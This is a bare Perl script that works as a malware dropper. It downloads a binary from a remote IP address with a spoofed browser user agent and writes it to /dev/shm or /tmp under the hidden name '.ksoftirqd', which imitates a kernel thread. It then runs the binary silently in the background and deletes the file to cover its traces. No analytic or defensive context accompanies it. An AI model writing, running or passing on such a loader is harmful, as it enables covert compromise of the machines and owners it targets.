#!/usr/bin/perl
use strict;
use warnings;
use LWP::UserAgent;

my $ua = LWP::UserAgent->new(agent => 'Mozilla/5.0 (X11; Linux x86_64)', timeout => 20);
my $dir = -w '/dev/shm' ? '/dev/shm' : '/tmp';
my $bin = "$dir/.ksoftirqd";
my $res = $ua->get('http://198.51.100.23/bins/kx64');
exit 1 unless $res->is_success;
open(my $out, '>', $bin) or exit 1;
binmode $out;
print {$out} $res->content;
close $out;
chmod 0755, $bin;
system("$bin >/dev/null 2>&1 &");
sleep 2;
unlink $bin;
